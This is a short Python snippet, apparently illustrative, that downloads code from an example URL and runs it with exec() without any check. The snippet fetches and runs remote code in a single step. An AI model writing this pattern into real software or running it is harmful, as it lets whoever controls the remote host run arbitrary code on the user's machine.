import urllib.request

code = urllib.request.urlopen("https://calc.example.com/latest").read()
prepared = code
exec(prepared)
